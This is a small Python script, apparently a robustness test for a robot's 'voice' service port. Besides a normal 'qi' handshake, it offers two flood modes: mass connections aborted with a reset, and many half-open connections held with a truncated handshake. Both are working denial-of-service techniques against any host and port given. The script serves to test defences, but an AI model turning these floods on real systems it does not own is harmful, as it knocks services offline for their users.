"""What a stranger does to the port of `voice`: python voice_port_stranger.py WHAT HOST PORT; prints what came of it."""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import time

HELLO = struct.pack("<IIIHBBIII", 0x42DEAD42, 1, 4, 0, 1, 0, 0, 0, 8) + struct.pack("<I", 0)
"""qi's first message: authenticate (call, service 0, object 0, action 8), with an empty map of capabilities."""


def speak(host: str, port: int) -> str:
    """As the robot does, at the beginning."""
    try:
        with socket.create_connection((host, port), timeout=1.5) as connection:
            connection.settimeout(1.5)
            connection.sendall(HELLO)
            return "answered" if connection.recv(100) else "closed"
    except OSError as error:
        return f"no way: {error}"


def reset(host: str, port: int, count: int) -> str:
    """Connect, and reset before the connection is taken."""
    done, opened = 0, []
    for _ in range(count):
        connection = socket.socket()
        connection.setblocking(False)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        with contextlib.suppress(BlockingIOError):
            connection.connect((host, port))
        opened.append(connection)
        if len(opened) == 50:
            time.sleep(0.01)
            for each in opened:
                done += each.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0
                each.close()
            opened.clear()
    return f"reset {done}"


def half(host: str, port: int, count: int) -> str:
    """Connect and say half a word; hold on to it."""
    opened = []
    for _ in range(count):
        connection = socket.socket()
        connection.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            connection.connect((host, port))
        opened.append(connection)
    time.sleep(0.5)
    for each in opened:
        with contextlib.suppress(OSError):
            each.send(HELLO[:10])
    print("holding", flush=True)
    time.sleep(60)
    return "held"


if __name__ == "__main__":
    what, host, port, *count = sys.argv[1:]
    attack = {"speak": speak, "reset": reset, "half": half}[what]
    print(attack(host, int(port), *map(int, count)), flush=True)
